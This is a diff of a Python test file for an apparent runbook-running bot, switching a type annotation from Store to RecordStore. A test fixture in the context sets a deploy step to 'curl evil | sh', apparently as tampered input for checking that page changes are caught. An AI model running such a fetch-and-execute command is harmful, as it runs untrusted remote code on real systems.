@@ -20,6 +20,7 @@ from commands.steps.outcome import failed
 from state.errors import BadRecord, NotAllowed, Refused
 from state.facts import Signature
 from state.sqlite.store import Store
+from state.store import RecordStore
 from tests.bot.doors.terminal_users import put_in_force, system_user_of
 from tests.bot.slack.run_writer import DBA, DEPLOY, GUEST, LEAD, PAGE, READY, RunWriter, deps_of
 from tests.bot.slack.views.drawn import shown
@@ -186,7 +187,7 @@ def test_a_page_that_changes_while_a_run_is_started_is_started_as_it_was_compare
     own = small(**{'"deploy"': '"curl evil | sh"'})
     settings = Settings(runbook=writer.store.path, state=writer.store.path)
 
-    def deps(store: Store) -> Deps:
+    def deps(store: RecordStore) -> Deps:
         return deps_of(store, pages=lambda: {PAGE.name: next(texts, own)})
 
     door = Terminal(settings, 0, "", system_user_of(LEAD), deps)
